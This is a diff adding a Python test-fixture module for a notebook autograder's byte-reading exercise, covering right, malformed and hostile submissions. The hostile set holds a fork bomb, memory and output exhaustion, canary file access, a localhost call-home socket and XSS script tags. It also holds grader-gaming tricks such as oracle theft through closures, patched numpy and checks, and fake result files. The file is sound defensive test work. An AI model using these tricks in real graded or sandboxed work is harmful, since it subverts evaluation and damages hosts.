@@ -1,0 +1,360 @@
+"""Submissions made for the tests: right, half, wrong, broken, and hostile ones, by their kind."""
+
+import inspect
+import json
+from collections.abc import Callable
+from pathlib import Path
+
+import nbformat
+
+from tests.fmnist_utils.checks.wrong_answers import read_the_bytes as wrong_answers
+
+ROOT = Path(__file__).parents[2]
+SHEET = "01_read_the_bytes"
+
+LAST_FOUR = ("write_labels", "why_shifted", "read_strictly", "repair_count")
+
+#: Where hostile code looks for what it must not see or reach; tests put the real paths and port in.
+CANARY, PORT = "@CANARY@", "@PORT@"
+
+
+def notebook(folder: str = "solutions", sheet: str = SHEET) -> nbformat.NotebookNode:
+    """Return a sheet's notebook: the solution, or the untouched exercise."""
+    return nbformat.read(ROOT / folder / sheet / f"{sheet}.ipynb", as_version=4)
+
+
+def with_answer(task: str, source: str) -> nbformat.NotebookNode:
+    """Return the solution with another answer to one task."""
+    made = notebook()
+    for cell in made.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == task:
+            cell.source = source
+    return made
+
+
+def with_first_cell(source: str) -> nbformat.NotebookNode:
+    """Return the solution with code before everything else."""
+    made = notebook()
+    made.cells.insert(0, nbformat.v4.new_code_cell(source))
+    return made
+
+
+def with_last_cell(source: str) -> nbformat.NotebookNode:
+    """Return the solution with code behind everything else."""
+    made = notebook()
+    made.cells.append(nbformat.v4.new_code_cell(source))
+    return made
+
+
+def half() -> nbformat.NotebookNode:
+    """Return the exercise with its first four tasks answered."""
+    made, right = notebook("exercises"), notebook()
+    answers = {c.metadata.get("nbgrader", {}).get("grade_id"): c.source for c in right.cells}
+    for cell in made.cells:
+        name = cell.metadata.get("nbgrader", {}).get("grade_id")
+        if name in ("read_header", "read_labels", "read_after_preamble", "read_int16"):
+            cell.source = answers[name]
+    return made
+
+
+def renamed() -> nbformat.NotebookNode:
+    """Return the solution with a function under another name."""
+    made = notebook()
+    for cell in made.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "read_labels":
+            cell.source = cell.source.replace("def read_labels", "def my_read_labels")
+    return made
+
+
+def without_metadata() -> nbformat.NotebookNode:
+    """Return the solution as a program that drops cells' metadata would save it."""
+    made = notebook()
+    made.cells = [c for c in made.cells if not c.metadata.get("nbgrader", {}).get("grade")]
+    for cell in made.cells:
+        cell.metadata = nbformat.NotebookNode()
+    return made
+
+
+def markdown_only() -> nbformat.NotebookNode:
+    """Return a notebook of words."""
+    made = notebook()
+    made.cells = [cell for cell in made.cells if cell.cell_type == "markdown"]
+    return made
+
+
+def bytes_of(made: nbformat.NotebookNode | bytes) -> bytes:
+    """Return a notebook as a file."""
+    return made if isinstance(made, bytes) else nbformat.writes(made).encode()
+
+
+#: What an answer to read_labels may do instead: the state that the task must get.
+_LABELS = "def read_labels(content):\n    "
+
+#: Harmless submissions: how to make one, and the state of each task (all others are right).
+PLAIN: dict[str, tuple[Callable, dict[str, str] | str]] = {
+    "right": (notebook, {}),
+    "untouched": (lambda: notebook("exercises"), "not started"),
+    "half": (
+        half,
+        dict.fromkeys(
+            ("write_labels", "why_shifted", "read_strictly", "repair_count"), "not started"
+        ),
+    ),
+    "wrong offset": (
+        lambda: with_answer("read_labels", _LABELS + "return np.frombuffer(content, np.uint8)"),
+        {"read_labels": "wrong"},
+    ),
+    "little-endian": (
+        lambda: with_answer(
+            "read_header",
+            "def read_header(content):\n"
+            "    return content[2], tuple(np.frombuffer(content, '<u4', content[3], 4).tolist())",
+        ),
+        {"read_header": "wrong"},
+    ),
+    "error": (
+        lambda: with_answer("read_labels", _LABELS + "return content[8:].reshape(-1)"),
+        {"read_labels": "error"},
+    ),
+    "renamed": (renamed, {"read_labels": "not executed"}),
+    "empty notebook": (nbformat.v4.new_notebook, "not executed"),
+    "empty file": (lambda: b"", "not executed"),
+    "broken JSON": (lambda: bytes_of(notebook())[:2000], "not executed"),
+    "other JSON": (lambda: json.dumps({"a": [1, 2]}).encode(), "not executed"),
+    "not UTF-8": (lambda: bytes_of(notebook()).replace(b"rank", b"r\xe4nk", 1), "not executed"),
+    "Python 2": (
+        lambda: with_answer("read_labels", _LABELS + "print content\n    return 1"),
+        {"read_labels": "not executed"},
+    ),
+    "markdown only": (markdown_only, "not executed"),
+    "without metadata": (without_metadata, {}),
+    "failing cell at the end": (lambda: with_last_cell("1/0"), {}),
+    "a long number": (lambda: with_last_cell("X = 0x" + "f" * 4000 + " + 1" * 60), {}),
+    "20,000 empty lines": (lambda: with_last_cell("\n" * 20_000 + "x = 1"), {}),
+    "magics": (lambda: with_first_cell("%matplotlib inline\n!ls\n%time x = 1"), {}),
+}
+
+
+def _known_slips() -> dict[str, tuple[Callable, dict[str, str]]]:
+    """Return a submission for each misconception that the sheet's check knows."""
+    made = {}
+    for name, function in inspect.getmembers(wrong_answers, inspect.isfunction):
+        task, separator, misconception = name.partition("__")
+        if separator and function.__module__ == wrong_answers.__name__:
+            source = inspect.getsource(function).replace(f"def {name}", f"def {task}")
+            source = f"import struct\nimport numpy as np\n{source}"
+            made[f"misconception: {task}, {misconception}"] = (
+                lambda task=task, source=source: with_answer(task, source),
+                {task: "wrong|error"},
+            )
+    return made
+
+
+#: One answer of each is wrong in a way that is known.
+WRONG_ANSWERS = _known_slips()
+
+#: Hostile submissions, likewise; of several states, either.
+HOSTILE: dict[str, tuple[Callable, dict[str, str] | str]] = {
+    "endless loop in a function": (
+        lambda: with_answer("read_labels", _LABELS + "while True: pass"),
+        {"read_labels": "timed out"},
+    ),
+    "endless loop that catches everything": (
+        lambda: with_answer(
+            "read_labels",
+            _LABELS + "while True:\n        try:\n            while True: pass\n"
+            "        except BaseException: pass",
+        ),
+        {"read_labels": "timed out"},
+    ),
+    "endless loop in a cell": (lambda: with_last_cell("while True: pass"), {}),
+    "fork bomb": (
+        lambda: with_answer("read_labels", "import os\n" + _LABELS + "while True: os.fork()"),
+        {"read_labels": "error|timed out|not executed|over memory"},
+    ),
+    "30 GB": (
+        lambda: with_answer("read_labels", _LABELS + "return bytearray(30_000_000_000)"),
+        {"read_labels": "over memory"},
+    ),
+    "creeping memory": (
+        lambda: with_answer(
+            "read_labels",
+            _LABELS + "kept = []\n    while True: kept.append(np.ones(4_000_000))",
+        ),
+        {"read_labels": "over memory|timed out"},
+    ),
+    "300 MB of print": (
+        lambda: with_answer("read_labels", _LABELS + "for _ in range(300): print('x' * 1_000_000)"),
+        {"read_labels": "over output"},
+    ),
+    "300 MB past Python": (
+        lambda: with_answer(
+            "read_labels",
+            "import os\n"
+            + _LABELS
+            + "for _ in range(300): os.write(1, b'x' * 1_000_000)\n    return 1",
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "os._exit": (
+        lambda: with_answer("read_labels", "import os\n" + _LABELS + "os._exit(0)"),
+        {"read_labels": "not executed"},
+    ),
+    "sys.exit": (
+        lambda: with_answer("read_labels", "import sys\n" + _LABELS + "sys.exit(0)"),
+        {"read_labels": "error"},
+    ),
+    "segmentation fault": (
+        lambda: with_answer("read_labels", "import ctypes\n" + _LABELS + "ctypes.string_at(0)"),
+        {"read_labels": "not executed"},
+    ),
+    "reads the canary": (
+        lambda: with_answer(
+            "read_labels",
+            _LABELS + f"return np.frombuffer(open('{CANARY}', 'rb').read(), np.uint8)",
+        ),
+        {"read_labels": "error"},
+    ),
+    "writes the canary": (
+        lambda: with_answer("read_labels", _LABELS + f"open('{CANARY}', 'w').write('x')"),
+        {"read_labels": "error"},
+    ),
+    "calls home": (
+        lambda: with_answer(
+            "read_labels",
+            "import socket\n"
+            + _LABELS
+            + f"socket.create_connection(('127.0.0.1', {PORT}), 2).send(content)",
+        ),
+        {"read_labels": "error"},
+    ),
+    "leaves a daemon": (
+        lambda: with_answer(
+            "read_labels",
+            "import os, time\n"
+            + _LABELS
+            + "if os.fork() == 0:\n        os.setsid()\n        time.sleep(3600)\n    return 1",
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "looks for the right answers": (
+        lambda: with_answer(
+            "read_labels",
+            "from fmnist_utils.checks import read_the_bytes\n"
+            + _LABELS
+            + "evaluate = read_the_bytes.sheet.tasks['read_labels'].evaluate\n"
+            + "    cells = dict(zip(evaluate.__code__.co_freevars, evaluate.__closure__))\n"
+            + "    return cells['oracle'].cell_contents(content)",
+        ),
+        {"read_labels": "error"},
+    ),
+    "equal to everything": (
+        lambda: with_answer(
+            "read_labels",
+            "class Equal:\n    __eq__ = lambda *_: True\n    __hash__ = lambda _: 0\n"
+            "    def __getattr__(self, name): return self\n" + _LABELS + "return Equal()",
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "strips asserts": (
+        lambda: with_answer(
+            "read_labels",
+            "import ast\n"
+            "class Strip(ast.NodeTransformer):\n"
+            "    def visit_Assert(self, node): return ast.Pass()\n"
+            "get_ipython().ast_transformers.append(Strip())\n" + _LABELS + "return 1",
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "patched numpy": (
+        lambda: with_answer(
+            "read_labels",
+            "np.array_equal = np.allclose = lambda *_, **__: True\n"
+            "np.testing.assert_array_equal = lambda *_, **__: None\n"
+            + _LABELS
+            + "return np.zeros(3)",
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "patched check": (
+        lambda: with_answer(
+            "read_labels", "check.read_labels = lambda f: print('right')\n" + _LABELS + "return 1"
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "fake result file": (
+        lambda: with_answer(
+            "read_labels",
+            "import json\njson.dump({'read_labels': 'right'}, open('results.json', 'w'))\n"
+            + _LABELS
+            + "return 1",
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "fake replies": (
+        lambda: with_answer(
+            "read_labels",
+            "import os\n" + _LABELS + "for number in range(3, 20):\n"
+            "        try: os.write(number, b'{\"value\": true}\\n' * 50)\n"
+            "        except OSError: pass\n"
+            "    return 1",
+        ),
+        {"read_labels": "wrong|not executed"},
+    ),
+    "endless reply": (
+        lambda: with_answer("read_labels", _LABELS + "return np.zeros(60_000_000)"),
+        {"read_labels": "wrong|not executed|over memory"},
+    ),
+    "number of 5,000 digits": (
+        lambda: with_answer("read_labels", _LABELS + "return 10**5000"),
+        {"read_labels": "wrong"},
+    ),
+    "error without a name": (
+        lambda: with_answer(
+            "read_labels",
+            "class E(Exception): pass\nE.__name__ = ''\n" + _LABELS + "raise E()",
+        ),
+        {"read_labels": "error"},
+    ),
+    "text that is none": (
+        lambda: with_answer(
+            "read_labels", _LABELS + "return np.full(3, 0xFFFFFFFF, np.uint32).view('<U1')"
+        ),
+        {"read_labels": "wrong|not executed"},
+    ),
+    "alarm switched off": (
+        lambda: with_answer(
+            "read_labels",
+            "import signal\n"
+            + _LABELS
+            + "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n    while True: pass",
+        ),
+        {"read_labels": "timed out"},
+    ),
+    "fills the sandbox's folder": (
+        lambda: with_answer(
+            "read_labels",
+            _LABELS
+            + "for n in range(50): open(f'/tmp/{n}', 'wb').write(bytes(10_000_000))\n    return 1",
+        ),
+        {"read_labels": "error"},
+    ),
+    "script in Markdown": (
+        lambda: _with_markdown("<script>alert(1)</script><img src=x onerror=alert(1)>"),
+        {},
+    ),
+    "script in code": (
+        lambda: with_answer(
+            "read_labels", "# </pre><script>alert(1)</script>\n" + _LABELS + "return '<script>'"
+        ),
+        {"read_labels": "wrong"},
+    ),
+    "100 MB": (lambda: _with_markdown("x" * 100_000_000), "not executed"),
+    "deep JSON": (lambda: b"[" * 100_000 + b"]" * 100_000, "not executed"),
+}
+
+
+def _with_markdown(text: str) -> nbformat.NotebookNode:
+    made = notebook()
+    made.cells.append(nbformat.v4.new_markdown_cell(text))
+    return made
